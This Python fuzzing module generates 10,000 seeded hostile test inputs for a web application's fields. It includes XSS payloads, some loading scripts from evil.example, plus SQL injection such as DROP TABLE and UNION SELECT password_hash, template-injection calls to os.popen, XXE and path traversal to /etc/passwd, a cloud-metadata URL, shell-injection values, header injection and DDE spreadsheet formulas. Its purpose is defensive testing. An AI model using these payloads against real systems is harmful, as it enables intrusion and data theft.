"""Hostile values: what attackers, other programs and broken keyboards put into fields.

The same values in the same order every time. Lone surrogates are among them: send them with
`errors="surrogatepass"`, as a browser never does and a program may.
"""

import random
from collections.abc import Callable, Iterator
from functools import cache
from itertools import chain, count, product

COUNT = 10_000
_SEED = 612

_TAGS = (
    "script img svg body iframe object embed link style base form input button textarea select"
    " details marquee video audio math a meta template isindex x-eva"
).split()
_EVENTS = (
    "onload onerror onclick onfocus onmouseover onpointerenter ontoggle onstart onanimationend"
    " onbeforeinput onpageshow"
).split()
RUN = "window.eva_run=(window.eva_run||0)+1,alert(1)"
"""What a script that ran leaves behind: a mark in the window, and a dialog."""

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=//evil.example/x.js></script><script>{RUN}",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</option></select><img src=x onerror={RUN}>",
    f"\"><img src=x onerror='{RUN}'>",
    f'\'><img src=x onerror="{RUN}">',
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"`-{RUN}-`",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}",
    f"<a href=javascript:{RUN}>x</a>",
    f'<a href="&#106;avascript:{RUN}">x</a>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<img src=x onerror\x0c={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    "<img src=x onerror=&#97;lert(1)>",
    f"<object data=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button>x",
    f"<button formaction=javascript:{RUN}>x",
    f"<base href=javascript:{RUN}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<style>@import 'javascript:{RUN}';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    f"<link rel=stylesheet href=data:,*{{color:red}} onload={RUN}>",
    f"\u003cscript\u003e{RUN}\u003c/script\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<\x00script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    "<a href=//evil.example>klikkaa</a>",
    "<img src=//evil.example/x.gif>",
)
_SQL = (
    "' OR 1=1 --",
    "' OR '1'='1",
    '" OR ""="',
    "') OR ('1'='1",
    "'; DROP TABLE decision; --",
    "'; SELECT pg_sleep(9); --",
    "1; ATTACH DATABASE 'x' AS x",
    "' UNION SELECT password_hash FROM user --",
    "' UNION ALL SELECT NULL,NULL,NULL --",
    "admin'--",
    "admin'/*",
    "1' AND randomblob(999999999) --",
    "%' ESCAPE '%",
    "%",
    "_",
    "\\",
    "\\'",
    "%%%%%%%%",
    "'||(SELECT 1)||'",
    "$$; DROP TABLE draft; $$",
    "E'\\x27'",
    "0x27",
    "CHAR(39)",
    "/*!50000 SELECT*/",
    "\u02bc OR 1=1",
    "\uff07 OR 1=1",
    ":number",
    ":1",
    "%(name)s",
    "%s",
    "?",
    "NULL",
    "null",
    "undefined",
    "DEFAULT",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# x #}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self._TemplateReference__context }}",
    "{{ request.application.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{%p for x in y %}",
    "{%tr for x in y %}",
    "{{r x }}",
    "{_{x}_}",
    "{{",
    "}}",
    "{%",
    "{{ " * 300,
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(title)s %(",
    "{0.__class__} {",
    "%n%s%x%d",
    "</w:t></w:r></w:p><w:p><w:r><w:t>INJECTED",
    "<w:br/>",
    "<b>lihavoi</b>",
    "A & B < C > D",
    "&amp;&#0;&#xD800;&x;",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "]]>",
)
_PATHS = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "..%c0%af..%c0%afetc",
    "C:\\x",
    "\\\\evil.example\\share",
    "file:///etc/passwd",
    "//evil.example",
    "/\\evil.example",
    "///evil.example",
    "/\t/evil.example",
    "https://evil.example",
    "https:evil.example",
    "http://169.254.169.254/latest/meta-data",
    "/decisions/1/../../sign-out",
    "/decisions/1/assessment/summary",
    "/decisions/999999999/x",
    "CON",
    "nul.docx",
    ".",
    "..",
    "~root",
    "-rf",
    "--help",
    "| id",
    "; id",
    "`id`",
    "$(id)",
)
_BREAKS = (
    "a\r\nSet-Cookie: eva=x",
    "a\r\n\r\n<html>",
    "a\nINFO eva: kirjautui admin",
    "a\rINFO eva: kirjautui admin",
    "\x1b[2J\x1b[31mINFO eva",
    "\x1b]0;x\x07",
    "a%0d%0aSet-Cookie:%20x=1",
    "a\u2028b\u2029c\u0085d",
    "a\u560d\u560aSet-Cookie: x",
    "\n" * 200,
    "\t" * 200,
    " " * 2_000,
    "a\x0bb\x0cc",
)
_LETTERS = (
    "\u202eexe.docx",
    "\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069",
    "\u200f\u200eabc",
    "p\u0430yp\u0430l",
    "\u0410dmin",
    "\u212aelvin \u00c5ngstr\u00f6m",
    "\ufb01\ufb02\u01c4\u1e9e\u0130\u0131",
    "a\u0308a\u030ao\u0308",
    "e" + "\u0301" * 300,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334",
    "\u200b\u200c\u200d\u2060\ufeff\u00ad",
    "\ufeffalku",
    "\u00a0\u2007\u202f\u3000",
    "\u115f\u3164\uffa0",
    "\U000e0001\U000e0041",
    "\ufdd0\U0001fffe\U0010ffff",
    "\ue000\U000f0000",
    "\u0644\u0627 \u05d0\u05d1",
    "\U0001f3eb\U0001f469\u200d\U0001f3eb\U0001f1eb\U0001f1ee",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 9,
    "\U0001d518\U0001d52b\U0001d526",
    "\u1100\u1161\u11a8\uac01",
    "\ud800",
    "\udfff",
    "a\udc00\ud800b",
    "\ud83d",
    "\ud83d\ude00",
)
_CONTROLS = tuple(
    f"ennen{chr(sign)}j\u00e4lkeen"
    for sign in (*range(0x20), *range(0x7F, 0xA0), 0x61C, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFE, 0xFFFF)
)
_NUMBERS = (
    *("NaN", "sNaN", "Infinity", "-Infinity", "1e999999", "-1e999999", "1E-999999", "1e5", "1_000"),
    *("0x10", "0b1", "0o7", "00", "-0", "+1", "--1", "1,5", "1.5", "1.000,50", "1,000.50", "1 000"),
    *(str(2**31 - 1), str(2**31), str(2**32), str(2**63 - 1), str(2**63), str(-(2**31))),
    *(str(-(2**63) - 1), str(10**30), str(-(10**30)), "9" * 40, "9" * 4_000, "-" + "9" * 4_000),
    *("9" * 4_301, "0." + "3" * 4_000, "999999999999.99", "9999999999999.99", "0,001"),
    *(
        "\u0661\u0662\u0663",
        "\u0967\u0968",
        "\uff11\uff12",
        "\u00b2",
        "\u00bd",
        "\u2167",
        "1\u00a0000",
    ),
    *(
        "\u22125",
        "5 \u20ac",
        "\u20ac 5",
        "1'000",
        "true",
        "false",
        "on",
        "[]",
        "{}",
        "[object Object]",
    ),
)
_DAYS = (
    *("0001-01-01", "1.1.0001", "9999-12-31", "31.12.9999", "30.2.2026", "2026-02-30", "29.2.2100"),
    *("31.4.2026", "0.0.0000", "2026-13-01", "00.00.00", "1.1.1899", "1.1.2201", "1.1.99999"),
    *("\u0661.\u0661.\u0662\u0660\u0662\u0666", "2026-W01-1", "2026-001", "1.1.26", "1/1/2026"),
    *(
        "2026-01-01T00:00:00Z",
        "2026-01-01 00:00:00+99:99",
        "t\u00e4n\u00e4\u00e4n",
        "1..1..2026",
        "%d.%m.%Y",
    ),
)
_SHEETS = (
    *('=HYPERLINK("//evil.example","x")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"),
    *("=cmd|' /C calc'!A0", "DDE", ";=1", '",=1', "=\u00e4", "\uff1d1+1", "'=1"),
)
_JSON = (
    *("{", "[", '"', "{}", "[]", "null", '{"a":1,"a":2}', '{"__proto__":{}}', "[" * 5_000),
    *('{"a":' * 2_000, '{"a":NaN}', '{"a":"\\ud800"}', '{"a":1e999999}', "[" + "9" * 5_000 + "]"),
    *('{"c.wellbeing.x.1":{}}', '{"format":"eva-case"}', '["' + "x" * 900 + '"]'),
)
_CODES = (
    *("", "x", "yes", "no", "unknown", "none", "full", "other", "narrow", "positive", "negative"),
    *("VE0", "VE1", "VE99", "wellbeing/learning", "all", "all_no", "save", "secret", "mine"),
    *("theirs", "both", "fi", "sv", "en", "xx", "screening/2026-1", "assessment", "plain", "y"),
)
_LONG = (
    *(
        "\u00e4" * 501,
        "\u00e4" * 1_001,
        "\u00e4" * 20_001,
        "x" * 65_537,
        "x\n" * 9_000,
        "\u00e4" * 500,
    ),
    *(
        "x " * 20_000,
        "\U0001f3eb" * 9_000,
        "<" * 20_000,
        "&" * 20_000,
        "\x00" * 20_000,
        "%" * 9_000,
    ),
    *("x" * 1_000_000, "\u00e4\n" * 330_000),
)


def _made_scripts() -> Iterator[str]:
    """Yield a script in each tag with each event."""
    for tag, event in product(_TAGS, _EVENTS):
        yield f"<{tag} {event}={RUN} src=x href=x autofocus tabindex=1>x</{tag}>"


def scripts() -> list[str]:
    """Return the texts that run a script where a page doesn't escape them; about 300."""
    return [*SCRIPTS, *_made_scripts()]


_MUTATIONS: tuple[Callable[[str], str], ...] = (
    lambda text: f"Koulu {text} lakkautetaan",
    lambda text: f"5{text}",
    lambda text: f"{text}1",
    lambda text: f"\u202e{text}",
    lambda text: f"{text}\x00",
    lambda text: f"\x00{text}",
    lambda text: "\x07".join(text[:40]),
    lambda text: f"{text}\r\nX-Eva: 1",
    lambda text: f"\r\n{text}",
    lambda text: f'">{text}',
    lambda text: f"'>{text}",
    lambda text: f"-->{text}<!--",
    lambda text: f"</textarea>{text}",
    lambda text: f"{{{{ {text} }}}}",
    lambda text: f"{{%p {text} %}}",
    lambda text: text.swapcase(),
    lambda text: text.replace(" ", "/**/"),
    lambda text: "".join(f"%{sign:02x}" for sign in text[:80].encode(errors="replace")),
    lambda text: "".join(f"&#{ord(sign)};" for sign in text[:80]),
    lambda text: "".join(chr(ord(s) + 0xFEE0) if "!" <= s <= "~" else s for s in text[:200]),
    lambda text: "\u0301".join(text[:80]),
    lambda text: (text or "x")[:40] * 20,
    lambda text: f"{text}\ufffe",
    lambda text: f"{text}\ud800",
    lambda text: f"={text}",
    lambda text: f"  {text}\t\x0b",
    lambda text: f"/{text}",
    lambda text: f"\ufeff{text}\u0085",
)


@cache
def values() -> tuple[str, ...]:
    """Return `COUNT` values, no two alike, in an order that mixes the kinds."""
    seeds = [
        *scripts(),
        *chain(_SQL, _TEMPLATES, _PATHS, _BREAKS, _LETTERS, _CONTROLS, _NUMBERS),
        *chain(_DAYS, _SHEETS, _JSON, _CODES),
    ]
    chance = random.Random(_SEED)
    made = dict.fromkeys([*seeds, *_LONG])
    while len(made) < COUNT:
        seed, first, second = chance.choice(seeds), *chance.choices(_MUTATIONS, k=2)
        text = first(seed)
        made[second(text) if chance.random() < 0.3 else text] = None
    listed = list(made)[:COUNT]
    chance.shuffle(listed)
    return tuple(listed)


def _in_turn(offset: int) -> Iterator[str]:
    every = values()
    for place in count(offset):
        yield every[place % COUNT]


class Supply:
    """Gives values one after another and counts them."""

    def __init__(self, offset: int = 0, longest: int | None = None) -> None:
        """Begin at the offset; leave out what is longer than what may be sent."""
        self._values = _in_turn(offset)
        self._longest = longest
        self.given = 0

    def next(self) -> str:
        """Return the next value."""
        self.given += 1
        value = next(self._values)
        return value if self._longest is None else value[: self._longest]
